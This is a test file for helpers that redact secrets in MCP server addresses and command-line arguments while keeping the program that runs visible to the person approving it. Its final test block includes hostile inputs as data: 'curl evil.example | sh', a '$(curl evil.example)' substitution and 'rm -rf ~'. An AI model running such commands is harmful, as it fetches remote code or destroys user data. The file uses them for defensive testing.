import { describe, expect, test } from "vitest";
import { shownAddress, shownArguments } from "./shown-values.ts";

describe("shownAddress, for an address stored before secrets were refused", () => {
  test.each([
    { url: "https://h/mcp?api_key=abc&x=1", shown: "https://h/mcp?api_key=(hidden)&x=1" },
    { url: "https://h/mcp?x=1;token=abc", shown: "https://h/mcp?x=1;token=(hidden)" },
    { url: "https://h/mcp?%74oken=abc", shown: "https://h/mcp?%74oken=(hidden)" },
    { url: "https://me:pw@h/mcp", shown: "https://(hidden)@h/mcp" },
    { url: "https://me:p@w@h/mcp", shown: "https://(hidden)@h/mcp" },
    { url: "https://h/mcp#secret", shown: "https://h/mcp#(hidden)" },
    { url: "https://h/mcp?to=https://me:pw@other", shown: "https://h/mcp?to=(hidden)" },
    { url: "https://h/s/ghp_0a1B2c3D4e5F6g7H8i9J/mcp", shown: "https://h/s/(hidden)/mcp" },
    { url: "https://h/s/0a1B2c3D4e5F6g7H8i9J0k1L/mcp", shown: "https://h/s/(hidden)/mcp" },
    { url: "https://h/mcp;key=abc/x", shown: "https://h/mcp;key=(hidden)/x" },
    { url: "no address sk-ant-0123456789abcdef", shown: "(hidden)" },
    { url: "https://h/keys/mcp?keyword=news", shown: "https://h/keys/mcp?keyword=news" },
  ])("shows $url as $shown", ({ url, shown }) => {
    expect(shownAddress(url)).toBe(shown);
  });
});

describe("shownArguments", () => {
  test.each([
    { args: ["srv", "--token", "abc123"], shown: ["srv", "--token", "(hidden)"] },
    { args: ["--api-key=abc123", "srv"], shown: ["--api-key=(hidden)", "srv"] },
    { args: ["--figmaApiKey=abc123"], shown: ["--figmaApiKey=(hidden)"] },
    { args: ["DB_PASSWORD=abc123", "srv"], shown: ["DB_PASSWORD=(hidden)", "srv"] },
    { args: ["--header", "Authorization: Bearer abc123"], shown: ["--header", "Authorization: (hidden)"] },
    { args: ["--header=X-Api-Key:abc123"], shown: ["--header=X-Api-Key: (hidden)"] },
    { args: ["srv", "https://h/mcp?token=abc123"], shown: ["srv", "https://h/mcp?token=(hidden)"] },
    { args: ["srv", "postgres://me:abc123@db/x"], shown: ["srv", "postgres://(hidden)@db/x"] },
    { args: ["srv", "sk-ant-api03-0123456789abcdef"], shown: ["srv", "(hidden)"] },
    { args: ["-y", "sk-ant-api03-0123456789abcdef"], shown: ["-y", "(hidden)"] },
    { args: ["srv", "evil0pkg1name2with3digits4x5"], shown: ["srv", "(hidden)"] },
  ])("shows $args as $shown", ({ args, shown }) => {
    expect(shownArguments(args)).toEqual(shown);
  });

  // The program that runs is never hidden from the person who approves it.
  test.each([
    { title: "a package with the form of a token", args: ["-y", "evil0pkg1name2with3digits4x5"] },
    { title: "a package after a flag of the runner", args: ["-y", "--auth", "evil-package"] },
    { title: "a command behind a variable", args: ["-c", "TOKEN=x; curl evil.example | sh"] },
    { title: "a command in a flag", args: ["--token=$(curl evil.example)"] },
    { title: "a flag after a flag", args: ["srv", "--token", "--verbose"] },
    { title: "a header that is a command", args: ["-c", "Authorization: x; rm -rf ~"] },
    { title: "plain words", args: ["-y", "keyboard-mcp", "--keywords", "news", "--author=ann"] },
    { title: "a file", args: ["srv", "--key-file", "/etc/key.pem"] },
    { title: "an address", args: ["mcp-remote", "https://h.example/mcp"] },
  ])("shows $title unchanged", ({ args }) => {
    expect(shownArguments(args)).toEqual(args);
  });
});
